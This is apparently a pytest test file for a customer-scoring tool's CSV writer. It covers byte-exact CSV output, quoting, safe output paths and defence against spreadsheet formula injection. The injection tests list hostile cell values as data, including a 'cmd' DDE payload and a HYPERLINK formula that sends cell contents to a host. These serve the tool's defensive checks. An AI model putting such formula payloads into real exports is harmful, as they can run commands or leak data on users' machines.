"""Output files: CSV lines built in SQL give the bytes of DuckDB's own CSV writer, rows in order."""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from crm_winback import workdb
from crm_winback.api import ingest_options, score_file
from crm_winback.errors import InputError
from crm_winback.files import (
    TEMP_PREFIX,
    atomic_path,
    check_output,
    copy_query,
    csv_cell,
    csv_field,
    csv_lines_sql,
    may_create,
    neutralise,
    reading,
    write_text,
)
from crm_winback.scoring import ScoreOptions

# Every kind of text a customer file can hold: plain, empty, NULL, commas, quotes, both line breaks, a
# semicolon and a tab (not special in a comma file), non-ASCII; with the column types the scores file uses
# and a LIST, whose text holds commas, and a TIMESTAMP.
ROWS = """
    SELECT * FROM (VALUES
        (1, 'C1', DATE '2024-01-02', 12.5::DOUBLE, 3.25::DECIMAL(18, 2), true, ['a', 'b'], 'plain', TIMESTAMP '2024-01-02 03:04:05'),
        (2, '', NULL, NULL, NULL, NULL, NULL, NULL, NULL),
        (3, 'Smith, Jane', DATE '1999-12-31', -0.1::DOUBLE, -7.00::DECIMAL(18, 2), false, [], 'say "hi"', TIMESTAMP '1999-12-31 23:59:59.5'),
        (4, 'line' || chr(10) || 'break', DATE '2024-02-29', 1e300::DOUBLE, 0::DECIMAL(18, 2), NULL, [NULL], '"', NULL),
        (5, 'cr' || chr(13), DATE '2024-03-01', 'nan'::DOUBLE, 1::DECIMAL(18, 2), true, ['x,y'], 'a;b' || chr(9) || 'c', TIMESTAMP '2024-03-01'),
        (6, 'Zoë Ä', DATE '2024-03-02', 1.0::DOUBLE, 2::DECIMAL(18, 2), false, ['"'], ' padded ', TIMESTAMP '2024-03-02 12:00:00')
    ) AS t(n, "customer id", day, value, money, flag, tags, note, stamp)
"""  # fmt: skip


def test_csv_lines_match_duckdbs_own_writer_byte_for_byte(tmp_path: Path) -> None:
    con = workdb.connect()
    try:
        reference = tmp_path / "duckdb.csv"
        con.execute(f"COPY ({ROWS} ORDER BY n) TO '{reference}' (FORMAT csv, HEADER true)")
        with workdb.in_order(con):
            ours = copy_query(con, f"{ROWS} ORDER BY n", tmp_path / "ours.csv")
    finally:
        con.close()
    assert ours.read_bytes() == reference.read_bytes()
    with ours.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["n", "customer id", "day", "value", "money", "flag", "tags", "note", "stamp"]
    assert [r[1] for r in rows[1:]] == ["C1", "", "Smith, Jane", "line\nbreak", "cr\r", "Zoë Ä"]
    assert rows[3][7] == 'say "hi"' and rows[5][6] == "['x,y']"


def test_header_names_are_quoted_like_values() -> None:
    assert [csv_field(t) for t in ("id", "", "a,b", 'say "x"', "two\nlines")] == [
        "id",
        '""',
        '"a,b"',
        '"say ""x"""',
        '"two\nlines"',
    ]


def test_a_query_with_no_rows_writes_the_header_only(tmp_path: Path) -> None:
    con = workdb.connect()
    try:
        out = copy_query(con, "SELECT 1 AS n, 'x' AS \"a,b\" WHERE false", tmp_path / "empty.csv")
    finally:
        con.close()
    assert out.read_text(encoding="utf-8") == 'n,"a,b"\n'


def test_scores_file_quotes_a_user_segment_name_and_a_customer_id_that_need_it(tmp_path: Path) -> None:
    orders = tmp_path / "o.csv"
    orders.write_text(
        'customer,date,amount\n"Smith, Jane",2024-01-01,10\n"Smith, Jane",2024-03-01,20\nplain,2024-02-01,5\n',
        encoding="utf-8",
    )
    seg = tmp_path / "m.yaml"
    seg.write_text(
        """
segments:
  - {name: 'Best, "top"', description: d, action: a}
  - {name: Rest, description: d, action: a}
rules:
  - {segment: 'Best, "top"', r: [4, 5], f: [1, 5], m: [1, 5]}
  - {segment: Rest, r: [1, 3], f: [1, 5], m: [1, 5]}
""",
        encoding="utf-8",
    )
    out = tmp_path / "s.csv"
    score_file(str(orders), ingest_options(), ScoreOptions(segment_map_file=str(seg)), output=str(out))
    with out.open(newline="", encoding="utf-8") as fh:
        rows = {r["customer_id"]: r for r in csv.DictReader(fh)}
    assert rows["Smith, Jane"]["rfm_segment"] == 'Best, "top"' and rows["Smith, Jane"]["orders"] == "2"
    assert rows["plain"]["rfm_segment"] == 'Best, "top"' and rows["plain"]["churn_risk"] == "low"
    assert '"Smith, Jane",2024-01-01,2024-03-01,2,' in out.read_text(encoding="utf-8")


# --- formula cells (OWASP CSV injection) -----------------------------------------------------------------

# Cells a spreadsheet would run, and plain values that must reach an importer unchanged.
FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.test?"&A1,"x")', "@SUM(A1)", "+1+1", "-2+3", "\tx", "\r=1",
            "-Smith", "+1 (2)", "=1", "@", "-cmd|' /C calc'!A0@x.com", "+eve@shop.test=1"]  # fmt: skip
PLAIN = ["+eve@shop.test", "-bob@x.co.uk", "+447700900123", "+44 7700 900123", "+1 (415) 555-0100", "-5.00",
         "+3", "1e-3", "-.5", "-", "+", "Ann", "a=b", "", "O'Brien", "ana@x.test"]  # fmt: skip


def test_neutralise_prefixes_formulas_and_keeps_plain_values() -> None:
    assert [neutralise(t) for t in FORMULAS] == ["'" + t for t in FORMULAS]
    assert [neutralise(t) for t in PLAIN] == PLAIN


def _sql_cells(values: list[str]) -> list[str]:
    """The cells as the SQL writer (csv_lines_sql) writes them, one per line, in order."""
    con = workdb.connect()
    try:
        con.execute("CREATE TABLE t (n INTEGER, v VARCHAR)")
        con.executemany("INSERT INTO t VALUES (?, ?)", list(enumerate(values)))
        with workdb.in_order(con):
            lines = con.execute(csv_lines_sql(con, "SELECT v FROM t ORDER BY n")).fetchall()
    finally:
        con.close()
    return [line[0] for line in lines]


def test_the_sql_writer_neutralises_exactly_as_the_python_rule() -> None:
    values = FORMULAS + PLAIN + ["=a,b", '@"q"', "-\n1", "+1\r"]
    assert _sql_cells(values) == [csv_cell(v) for v in values]


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(alphabet="=+-@\t\r0123456789 .()eE,\"'abc%_", max_size=12), min_size=1, max_size=30))
def test_sql_and_python_rules_agree_on_any_cell(values: list[str]) -> None:
    assert _sql_cells(values) == [csv_cell(v) for v in values]


def test_scores_file_neutralises_formula_cells_but_keeps_addresses_phones_and_negative_amounts(
    tmp_path: Path,
) -> None:
    orders = tmp_path / "o.csv"
    orders.write_text(
        "order_id,customer_id,order_date,amount,email,phone,first_name,last_name\n"
        '1,=HYPERLINK("http://x.test"),2024-01-01,10,+eve@shop.test,+447700900123,@SUM(A1),+1+1\n'
        "2,plain,2024-01-02,5,ana@x.test,+44 7700 900123,-2+3,=cmd|' /C calc'!A0\n"
        "3,plain,2024-01-03,-12,ana@x.test,+44 7700 900123,-2+3,=cmd|' /C calc'!A0\n",
        encoding="utf-8",
    )
    out = tmp_path / "s.csv"
    score_file(str(orders), ingest_options(), ScoreOptions(), output=str(out))
    with out.open(newline="", encoding="utf-8") as fh:
        rows = {r["email"]: r for r in csv.DictReader(fh)}
    eve, ana = rows["+eve@shop.test"], rows["ana@x.test"]
    assert eve["customer_id"] == '\'=HYPERLINK("http://x.test")'
    assert (eve["phone"], eve["first_name"], eve["last_name"]) == ("+447700900123", "'@SUM(A1)", "'+1+1")
    assert (ana["phone"], ana["first_name"], ana["last_name"]) == (
        "+44 7700 900123",
        "'-2+3",
        "'=cmd|' /C calc'!A0",
    )
    assert ana["net_total"] == "-7.00"  # 5 - 12: a negative amount is a number, never neutralised


# --- where outputs go ----------------------------------------------------------------------------------------


def test_an_output_over_an_input_is_refused_by_path_symlink_or_hard_link(tmp_path: Path) -> None:
    source = tmp_path / "orders.csv"
    source.write_text("x\n", encoding="utf-8")
    (tmp_path / "link.csv").symlink_to(source)
    os.link(source, tmp_path / "hard.csv")
    with reading(source):
        for name in ("orders.csv", "./orders.csv", "link.csv", "hard.csv", "sub/../orders.csv"):
            (tmp_path / "sub").mkdir(exist_ok=True)
            with pytest.raises(InputError, match=r"that is the input file .*orders\.csv; the input is never"):
                write_text(tmp_path / name, "scores\n")
        write_text(tmp_path / "other.csv", "scores\n")  # any other name is fine
    write_text(source, "x2\n")  # outside the block it is not an input any more
    assert source.read_text(encoding="utf-8") == "x2\n"


def test_an_output_that_is_a_folder_is_refused_in_words(tmp_path: Path) -> None:
    (tmp_path / "d.csv").mkdir()
    con = workdb.connect()
    try:
        with pytest.raises(
            InputError, match=r"d\.csv: is a folder; give a file path such as .*d\.csv/scores\.csv"
        ):
            copy_query(con, "SELECT 1 AS n", tmp_path / "d.csv")
    finally:
        con.close()
    os.mkfifo(tmp_path / "pipe.csv")
    with pytest.raises(InputError, match=r"pipe\.csv: exists and is not a regular file"):
        write_text(tmp_path / "pipe.csv", "x")


def test_a_folder_that_may_be_created_is_made_only_when_the_file_is_written(tmp_path: Path) -> None:
    out = tmp_path / "out" / "deeper" / "s.csv"
    with pytest.raises(InputError, match="does not exist; create it first"):
        write_text(out, "x")
    with may_create(out.parent):
        check_output(out)
        assert not (tmp_path / "out").exists()  # checked, not made
        with pytest.raises(RuntimeError), atomic_path(out):
            raise RuntimeError("the write failed")
        assert not (tmp_path / "out").exists()  # made for the write, removed with it
        write_text(out, "x")
    assert out.read_text(encoding="utf-8") == "x"


def test_a_killed_runs_temp_file_is_removed_by_the_next_write_and_a_live_ones_kept(tmp_path: Path) -> None:
    dead = subprocess.run(
        [sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True
    )
    stale = tmp_path / f"{TEMP_PREFIX}{int(dead.stdout)}-abc.csv"
    live = tmp_path / f"{TEMP_PREFIX}{os.getpid()}-def.csv"
    stale.write_text("half a file", encoding="utf-8")
    live.write_text("being written", encoding="utf-8")
    write_text(tmp_path / "out.csv", "x")
    assert sorted(p.name for p in tmp_path.iterdir()) == [live.name, "out.csv"]


def test_the_core_never_writes_scores_over_the_orders_file_whichever_door_calls(tmp_path: Path) -> None:
    # the MCP server reads inputs from its output folder too: score_file itself must refuse, not only the CLI
    orders = tmp_path / "orders.csv"
    orders.write_text("customer,date,amount\nA,2024-01-01,10\nB,2024-01-03,5\n", encoding="utf-8")
    before = orders.read_bytes()
    with pytest.raises(InputError, match=r"that is the input file .*orders\.csv"):
        score_file(str(orders), ingest_options(), ScoreOptions(), output=str(orders))
    assert orders.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["orders.csv"]
